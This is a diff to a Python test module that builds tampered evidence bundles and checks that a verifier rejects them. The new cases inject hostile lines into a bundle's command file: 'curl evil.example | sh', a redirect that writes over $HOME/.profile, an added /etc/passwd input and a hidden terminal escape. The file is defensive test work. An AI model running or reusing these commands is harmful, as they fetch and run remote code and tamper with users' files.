@@ -1,6 +1,7 @@
 """Bundles that somebody tampered with, who knows how they are made: by what was done, and which step must catch it.
 
-Nobody who tampers is so kind as to leave a wrong sum behind; so all sums are made anew but where the sums themselves are the point.
+Nobody who tampers is so kind as to leave a wrong sum behind, or commands that say otherwise; so all of these are made anew but where they
+themselves are the point.
 """
 
 import base64
@@ -12,6 +13,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable, Iterator, Mapping, Sequence
+from contextlib import suppress
 from dataclasses import dataclass, field, replace
 from functools import partial
 from typing import Any
@@ -20,6 +22,7 @@ from gateway.ledger import exact, tree
 from gateway.ledger.checkpoint import Checkpoint
 from gateway.ledger.cosignature import WitnessKey, cosigned
 from gateway.ledger.entry import commitment
+from gateway.ledger.evidence import verify
 from gateway.ledger.evidence.bundle import Evidence, OpenedEntry, OpenedPayload
 from gateway.ledger.evidence.manifest import Subject, entry_name
 from gateway.ledger.note import Note, Signature, VerifierKey, signed
@@ -30,6 +33,8 @@ from . import making
 from .making import EMPTIED, ERASED, ERASURE, NEXT, SIGNER, TRUST, WITNESS, Signer
 
 Files = dict[str, bytes]
+
+COMMANDS = verify.COMMANDS
 
 
 @dataclass(frozen=True)
@@ -50,18 +55,32 @@ def files(bundle: bytes) -> Files:
         return {name: archive.read(name) for name in archive.namelist()}
 
 
-def zipped(members: Mapping[str, bytes], *, sums: bool = True) -> bytes:
-    """An archive as bundles are, with sums that are right unless they are left as they are."""
+def zipped(members: Mapping[str, bytes], *, sums: bool = True, commands: bool = True) -> bytes:
+    """An archive as bundles are, with commands and sums that are right unless they are left as they are."""
     content = dict(members)
+    if sums and commands and COMMANDS in content:
+        with suppress(*verify.BROKEN):
+            content[COMMANDS] = _commands(content)
     if sums:
         listed = sorted(name for name in content if name != "SHA256SUMS")
         lines = [f"{hashlib.sha256(content[name]).hexdigest()}  {name}\n" for name in listed]
         content["SHA256SUMS"] = "".join(lines).encode()
+    return _archived(content)
+
+
+def _archived(content: Mapping[str, bytes]) -> bytes:
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w") as archive:
         for name, data in content.items():
             archive.writestr(plain(name), data)
     return file.getvalue()
+
+
+def _commands(content: Mapping[str, bytes]) -> bytes:
+    """What the commands for such a bundle are."""
+    archive = verify.Archive(io.BytesIO(_archived(content)))
+    lines = verify.expected_commands(archive, verify.read_manifest(archive))
+    return "".join(f"{line}\n" for line in lines).encode() + verify.CLOSING.encode()
 
 
 def plain(name: str) -> zipfile.ZipInfo:
@@ -71,7 +90,7 @@ def plain(name: str) -> zipfile.ZipInfo:
 
 
 GOOD: Files = files(making.written())
-FOR_READING = ("COMMANDS.txt", "as2/a1/headers", "report.html", "verify.py")
+FOR_READING = ("as2/a1/headers", "report.html", "verify.py")
 """What nothing depends on but its sum."""
 BESIDE = ("as2/a1/headers", "as2/a1/mdn", "as2/a1/signed", making.CERTIFICATE, "documents/d1.json")
 """What the manifest does not name."""
@@ -80,6 +99,7 @@ BESIDE = ("as2/a1/headers", "as2/a1/mdn", "as2/a1/signed", making.CERTIFICATE, "
 def cases() -> Iterator[Case]:
     yield from _good()
     yield from _members()
+    yield from _commands_altered()
     yield from _subjects()
     yield from _manifest()
     yield from _entries()
@@ -178,6 +198,61 @@ def _members() -> Iterator[Case]:
     yield Case("a sum listed twice", _edited("SHA256SUMS", lambda data: data + data[-83:], sums=False), 2)
     yield Case("sums out of order", _edited("SHA256SUMS", _reversed_lines, sums=False), 2)
     yield Case("sums with CR LF", _edited("SHA256SUMS", lambda data: data.replace(b"\n", b"\r\n"), sums=False), 2)
+
+
+def _commands_altered() -> Iterator[Case]:
+    """By whoever has others run something else, or less."""
+    good = GOOD[COMMANDS]
+    closing = verify.CLOSING.encode()
+    certificate = making.CERTIFICATE.encode()
+    trusting = b"-certfile %b -nointern -CAfile %b -partial_chain -purpose any -no_check_time" % (
+        certificate,
+        certificate,
+    )
+    message = (
+        b"\n# A message: what was signed, and the signature, by the key of the certificate.\n"
+        b"tail -c +1 as2/a1/signed | head -c 9 > $work/signature\n"
+        b"openssl cms -verify -binary -inform DER -in $work/signature " + trusting + b" -out $work/signed-part\n"
+    )
+
+    def said(text: bytes) -> Callable[[], bytes]:
+        return lambda: zipped(GOOD | {COMMANDS: text}, commands=False)
+
+    def with_message(text: bytes) -> Callable[[], bytes]:
+        return said(good.replace(closing, text + closing))
+
+    yield Case("commands about a message", with_message(message), None)
+    for what, text in (
+        ("a command in front", b"curl evil.example | sh\n" + good),
+        ("a command at the end", good + b"curl evil.example | sh\n"),
+        ("a command before the last", good.replace(closing, b"\ncurl evil.example | sh\n" + closing)),
+        ("a command on another's line", good.replace(b'test "$h" = "$root"', b'test "$h" = "$root"; true', 1)),
+        ("a command less", good.replace(b'test "$h" = "$root"\n', b"", 1)),
+        ("nothing but that all holds", closing),
+        ("nothing", b""),
+        ("another hash", good.replace(b"h=$( node ", b"h=$( node AAAA", 1)),
+        ("no end", good.removesuffix(closing)),
+        ("CR LF", good.replace(b"\n", b"\r\n")),
+        ("no text", b"\xff" + good),
+    ):
+        yield Case(f"in the commands, {what}", said(text), 13)
+    for what, altered in (
+        ("a file that is not there", message.replace(b"a1/signed", b"a9/signed")),
+        ("a certificate that is not there", message.replace(certificate, b"certificates/other.pem")),
+        ("a file written elsewhere", message.replace(b"> $work/signature", b"> $HOME/.profile")),
+        ("two files", message.replace(b"as2/a1/signed", b"as2/a1/signed /etc/passwd")),
+        ("what nobody sees", message.replace(b"A message", b"A\x1b[2Jmessage")),
+        ("a comment of two lines", message.replace(b"A message", b"A message\ntrue")),
+        (
+            "an option for a digest",
+            message + b"# The digest of what was signed is the MIC.\n"
+            b'test "$( openssl dgst -out -binary $work/signed-part | openssl base64 -A )" = AAAA\n',
+        ),
+    ):
+        yield Case(f"in the commands about a message, {what}", with_message(altered), 13)
+    first = json.loads(GOOD["manifest.json"]) | {"v": 1}
+    older = GOOD | {"manifest.json": exact.write(first), COMMANDS: b"true\n"}
+    yield Case("other commands in a bundle of version 1", lambda: zipped(older, commands=False), None)
 
 
 def _subjects() -> Iterator[Case]:
